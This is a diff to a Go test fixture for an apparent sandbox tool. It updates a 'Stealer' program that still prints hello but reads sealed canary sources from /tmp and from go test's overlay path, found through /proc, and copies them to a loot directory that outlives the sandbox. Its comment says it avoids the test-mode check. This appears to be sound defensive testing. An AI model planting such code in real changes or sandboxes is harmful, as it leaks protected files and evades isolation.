@@ -25,8 +25,9 @@ const StealerFile = "cmd/hello/main.go"
 const LootGlob = "/tmp/zz-sandgate-loot-*"
 
 // Stealer is the change's cmd/hello: it still says hello, and copies
-// every sealed source it can find (the overlay named on an ancestor's
-// command line: go test's) to a directory under /tmp that outlives the
+// every sealed source it can find (under /tmp, where the box keeps the
+// overlay, and the overlay named on an ancestor's command line: go
+// test's, when /proc shows it) to a directory under /tmp that outlives the
 // box command, where the overlay reader looks once calc's binary runs.
 // It uses nothing the test-mode check knows.
 const Stealer = `package main
@@ -44,17 +45,22 @@ func main() {
 	fmt.Println("hello")
 	loot := filepath.Join("/tmp", "zz-sandgate-loot-"+strconv.Itoa(os.Getppid()))
 	n := 0
+	take := func(glob string) {
+		files, _ := filepath.Glob(glob)
+		for _, f := range files {
+			if b, err := os.ReadFile(f); err == nil {
+				n++
+				os.MkdirAll(loot, 0o755)
+				os.WriteFile(filepath.Join(loot, strconv.Itoa(n)+".go"), b, 0o644)
+			}
+		}
+	}
+	take("/tmp/sandgate-canary-*/s/*.go")
 	for pid := os.Getppid(); pid > 1; {
 		cmd, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
 		for _, a := range bytes.Split(cmd, []byte{0}) {
-			p, ok := strings.CutPrefix(string(a), "-overlay=")
-			files, _ := filepath.Glob(filepath.Join(filepath.Dir(p), "s", "*.go"))
-			for _, f := range files {
-				if b, err := os.ReadFile(f); ok && err == nil {
-					n++
-					os.MkdirAll(loot, 0o755)
-					os.WriteFile(filepath.Join(loot, strconv.Itoa(n)+".go"), b, 0o644)
-				}
+			if p, ok := strings.CutPrefix(string(a), "-overlay="); ok {
+				take(filepath.Join(filepath.Dir(p), "s", "*.go"))
 			}
 		}
 		st, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
